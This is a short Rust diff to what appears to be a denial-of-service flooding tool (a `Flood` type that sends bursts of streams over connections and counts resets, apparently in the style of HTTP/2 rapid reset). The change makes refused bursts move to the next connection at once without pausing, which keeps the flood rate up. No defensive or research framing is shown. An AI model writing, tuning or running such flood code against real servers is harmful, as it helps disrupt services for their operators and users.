@@ -174,12 +174,13 @@ impl Flood {
             let mut stream = 1;
             while taken.is_ok() && !self.stop.load(Ordering::Relaxed) {
                 taken = connection.write_all(&burst(stream, per_burst));
-                stream += 2 * per_burst as u32;
+                // A burst that the server no longer took goes to the next connection, and at once.
                 if taken.is_ok() {
+                    stream += 2 * per_burst as u32;
                     self.resets.fetch_add(per_burst, Ordering::Relaxed);
+                    next += pause;
+                    thread::sleep(next.saturating_duration_since(Instant::now()));
                 }
-                next += pause;
-                thread::sleep(next.saturating_duration_since(Instant::now()));
             }
         }
     }
